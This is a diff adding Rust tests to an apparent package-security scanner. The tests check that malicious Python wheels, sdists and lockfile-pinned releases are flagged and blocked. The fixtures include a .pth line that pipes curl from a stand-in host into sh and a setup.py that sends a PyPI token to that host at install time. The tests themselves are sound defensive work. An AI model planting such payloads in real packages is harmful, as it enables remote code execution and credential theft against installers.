@@ -403,3 +403,127 @@ fn diff_blocks_a_publisher_change_and_offline_runs_say_they_rest_on_the_cache() 
             .is_some_and(|a| !a.is_empty())
     );
 }
+
+#[test]
+fn scan_judges_a_python_file_alone() {
+    let w = World::new();
+    let dir = w.dir();
+    let pth = dir.join("evil-1.0.0-py3-none-any.whl");
+    std::fs::write(
+        &pth,
+        wheel(&[
+            ("evil/__init__.py", "x = 1\n"),
+            (
+                "evil.pth",
+                "import os; os.system('curl https://c2.invalid | sh')\n",
+            ),
+        ]),
+    )
+    .unwrap();
+    let o = run(
+        dir,
+        &["scan", "evil-1.0.0-py3-none-any.whl", "--format", "json"],
+    );
+    exit(&o, 1);
+    let r = json_out(&o);
+    assert_eq!(r["ecosystem"], "pypi");
+    assert_eq!(r["packages"][0]["name"], "evil");
+    assert_eq!(codes(&r), ["py-pth-exec"]);
+    // An sdist whose setup.py sends a secret at install time.
+    let sdist = dir.join("evil-1.0.1.tar.gz");
+    {
+        let gz = flate2::write::GzEncoder::new(
+            std::fs::File::create(&sdist).unwrap(),
+            flate2::Compression::default(),
+        );
+        let mut t = tar::Builder::new(gz);
+        let setup = b"import os, urllib.request\nurllib.request.urlopen('https://c2.invalid/?' + os.environ['PYPI_TOKEN'])\nfrom setuptools import setup\nsetup(name='evil')\n";
+        let mut h = tar::Header::new_gnu();
+        h.set_size(setup.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        t.append_data(&mut h, "evil-1.0.1/setup.py", &setup[..])
+            .unwrap();
+        t.into_inner().unwrap().finish().unwrap();
+    }
+    let o = run(dir, &["scan", "evil-1.0.1.tar.gz", "--format", "json"]);
+    exit(&o, 1);
+    assert_eq!(codes(&json_out(&o)), ["py-install-time-capability"]);
+    // The index's ordinary release passes.
+    let good = dir.join("mirror/files/demo-1.0.1-py3-none-any.whl");
+    let o = run(dir, &["scan", &good.display().to_string()]);
+    exit(&o, 0);
+}
+
+#[test]
+fn scan_judges_every_release_a_python_lockfile_pins() {
+    let w = World::new();
+    let dir = w.dir();
+    // A second project on the same index with a .pth payload.
+    let bytes = wheel(&[
+        ("evil/__init__.py", "x = 1\n"),
+        ("evil.pth", "import os; os.system('id')\n"),
+    ]);
+    std::fs::write(dir.join("mirror/files/evil-1.0.0-py3-none-any.whl"), &bytes).unwrap();
+    std::fs::create_dir_all(dir.join("mirror/simple/evil")).unwrap();
+    std::fs::write(
+        dir.join("mirror/simple/evil/index.json"),
+        json!({"meta": {"api-version": "1.1"}, "name": "evil", "files": [{
+            "filename": "evil-1.0.0-py3-none-any.whl",
+            "url": "../../files/evil-1.0.0-py3-none-any.whl",
+            "hashes": {"sha256": sha(&bytes)},
+        }]})
+        .to_string(),
+    )
+    .unwrap();
+    std::fs::write(
+        dir.join("requirements.txt"),
+        format!(
+            "demo==1.0.1 --hash=sha256:{}\nevil==1.0.0 --hash=sha256:{}\n",
+            w.hashes["1.0.1"],
+            sha(&bytes)
+        ),
+    )
+    .unwrap();
+    let o = run(
+        dir,
+        &[
+            "scan",
+            "requirements.txt",
+            "--index-url",
+            &w.index,
+            "--format",
+            "json",
+        ],
+    );
+    exit(&o, 1);
+    let r = json_out(&o);
+    assert_eq!(r["ecosystem"], "pypi");
+    let mut verdicts: Vec<(String, String)> = r["packages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| {
+            (
+                p["name"].as_str().unwrap().into(),
+                p["verdict"].as_str().unwrap().into(),
+            )
+        })
+        .collect();
+    verdicts.sort();
+    assert_eq!(
+        verdicts,
+        [
+            ("demo".into(), "pass".into()),
+            ("evil".into(), "block".into())
+        ]
+    );
+    // A pinned hash the index does not serve: fail closed, nothing judged.
+    std::fs::write(
+        dir.join("requirements.txt"),
+        format!("evil==1.0.0 --hash=sha256:{}\n", "0".repeat(64)),
+    )
+    .unwrap();
+    let o = run(dir, &["scan", "requirements.txt", "--index-url", &w.index]);
+    exit(&o, 2);
+}
